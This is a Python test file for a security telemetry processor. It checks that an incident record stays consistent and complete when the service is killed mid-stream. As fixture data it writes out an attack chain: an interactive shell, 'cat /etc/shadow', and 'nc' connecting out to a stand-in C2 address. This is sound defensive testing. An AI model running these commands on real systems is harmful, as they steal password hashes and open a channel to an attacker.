"""The incidents stage's journal under SIGKILL of the real ``otelguard processor``.

A real service (noise_control -> incidents, ``service.state_dir`` set, flush every 2 s) forwards
to a recording OTLP/gRPC receiver. One attack chain in one pod arrives in three acknowledged
requests (a shell, its read of /etc/shadow, a child's connect out), and the service is killed
twice on the same state directory:

1. after version 1 of the incident left: the restart re-emits version 1, the same record;
2. right after the second detection was acknowledged, before the flush that would have told it:
   the restart must tell it in a new version, never under the uid of a version already sent
   with other content.

Then, exactly: one incident id; each version uid received (duplicates included) always carries
the same story and attributes; versions grow; the last version cites all three detections and
their triggers, counts every detection once and both pids; nothing was counted as dropped.
"""

from __future__ import annotations

import queue
import signal
import threading
import time
from pathlib import Path
from typing import Any, Optional

from otelguard import semconv as S
from otelguard.otlp.messages import PyValue

from ..crash_load import Service, send_until_ok
from tests.support.incidents import batch, detection, event, incidents, pod, trace
from tests.support.polling import wait_for
from tests.transport.receivers import GrpcReceiver

FLUSH_S = 2.0
STAGES = "  - type: noise_control\n  - type: incidents\n"


def _send(service: Service, body: bytes) -> None:
    """One request, retried until the service answered OK."""
    work: queue.Queue[Optional[bytes]] = queue.Queue()
    work.put(body)
    work.put(None)
    send_until_ok(f"127.0.0.1:{service.port}", work, [0], threading.Lock())


def _versions(receiver: GrpcReceiver) -> list[tuple[dict[str, PyValue], Any]]:
    with receiver._lock:
        requests = list(receiver.logs)
    return [(attrs, rec) for _, attrs, rec in incidents(requests)]


def _content(attrs: dict[str, PyValue], rec: Any) -> tuple[Any, ...]:
    """What a version says: its story and attributes (observed time aside)."""
    return rec.body.string_value, rec.time_unix_nano, rec.severity_number, sorted(
        (k, repr(v)) for k, v in attrs.items())


def test_an_incident_continues_across_sigkill_with_every_detection_cited(tmp_path: Path) -> None:
    receiver = GrpcReceiver().start()
    service = Service(tmp_path, receiver.endpoint, STAGES, flush_interval=FLUSH_S)
    res = pod("web-6d4b9c7f5-crash")
    tr = trace("crash-chain")
    sh = event(S.EV_PROCESS_EXEC, 700, tr, attrs={S.PROCESS_EXECUTABLE_PATH: "/bin/sh",
                                                   S.PROCESS_COMMAND_LINE: "sh -i"})
    cat = event(S.EV_FILE_OPEN, 701, tr, ppid=700, t=10, attrs={
        S.PROCESS_EXECUTABLE_PATH: "/bin/cat", S.PROCESS_COMMAND_LINE: "cat /etc/shadow",
        S.FILE_PATH: "/etc/shadow"})
    # the child runs in a trace of its own: it joins through its parent pid, learnt before the kill
    nc = event(S.EV_NETWORK_CONNECT, 702, trace("crash-child"), ppid=700, t=20, attrs={
        S.PROCESS_EXECUTABLE_PATH: "/usr/bin/nc", S.PROCESS_COMMAND_LINE: "nc 203.0.113.9 4444",
        S.NETWORK_PEER_ADDRESS: "203.0.113.9", S.NETWORK_PEER_PORT: 4444})
    d_sh = detection(sh, "Terminal shell in container", 13, "execution", "T1059")
    d_cat = detection(cat, "Read sensitive file untrusted", 17, "credential_access", "T1003",
                      attrs={S.FILE_PATH: "/etc/shadow"})
    d_nc = detection(nc, "Outbound connection to C2", 17, "command_and_control", "T1071")
    sent = [d_sh, d_cat, d_nc]
    try:
        service.start()
        _send(service, batch(res, [sh], [d_sh]).SerializeToString())
        wait_for(lambda: len(_versions(receiver)) >= 1, timeout=30, what="version 1")
        (first, _), = _versions(receiver)
        iid = first[S.INCIDENT_ID]
        assert first[S.INCIDENT_VERSION] == 1

        # kill 1: after version 1 left
        service.stop(signal.SIGKILL)
        service.start()
        wait_for(lambda: len(_versions(receiver)) >= 2, timeout=30, what="version 1 re-emitted")

        # kill 2: a flush just ran (the re-emission), the next is FLUSH_S away; the second
        # detection is acknowledged (journaled) and the process dies before that flush
        _send(service, batch(res, [cat], [d_cat]).SerializeToString())
        service.stop(signal.SIGKILL)
        told = {int(a[S.INCIDENT_VERSION]) for a, _ in _versions(receiver)}  # type: ignore[arg-type]  # an int attribute
        assert told == {1}, f"a flush ran before the kill ({told}): the test missed its point"
        service.start()
        wait_for(lambda: any(int(a[S.INCIDENT_STEPS]) == 2 for a, _ in _versions(receiver)),  # type: ignore[arg-type]  # an int attribute
                 timeout=30, what="the acknowledged detection told after the restart")

        _send(service, batch(res, [nc], [d_nc]).SerializeToString())
        time.sleep(0.1)
        service.stop(signal.SIGTERM)  # drains: the last version leaves
    finally:
        if service.proc is not None and service.proc.poll() is None:
            service.proc.kill()
            service.proc.wait(10)
        receiver.stop()

    versions = _versions(receiver)
    assert {a[S.INCIDENT_ID] for a, _ in versions} == {iid}, "the chain split into incidents"
    by_uid: dict[PyValue, tuple[Any, ...]] = {}
    for attrs, rec in versions:
        said = _content(attrs, rec)
        assert by_uid.setdefault(attrs[S.LOG_RECORD_UID], said) == said, (
            f"version {attrs[S.INCIDENT_VERSION]!r} was sent twice with different content")
    numbers = [int(a[S.INCIDENT_VERSION]) for a, _ in versions]  # type: ignore[arg-type]  # an int attribute
    assert numbers == sorted(numbers), numbers
    last, rec = max(versions, key=lambda v: int(v[0][S.INCIDENT_VERSION]))  # type: ignore[arg-type]  # an int attribute
    assert int(last[S.INCIDENT_VERSION]) >= 3  # type: ignore[arg-type]  # an int attribute
    assert last[S.INCIDENT_STEPS] == 3 and last[S.INCIDENT_DETECTIONS] == 3
    evidence = last[S.INCIDENT_EVIDENCE]
    assert isinstance(evidence, list)
    for d in sent:
        uid = {kv.key: kv.value.string_value for kv in d.attributes}[S.LOG_RECORD_UID]
        assert uid in evidence, f"{uid} lost from the evidence"
    assert last[S.INCIDENT_TECHNIQUES] == ["T1059", "T1003", "T1071"]
    assert "/etc/shadow" in rec.body.string_value and "203.0.113.9" in rec.body.string_value
    assert service.dropped == [0.0, 0.0, 0.0]
    print(f"\nversions received {numbers}; runs {service.runs}")
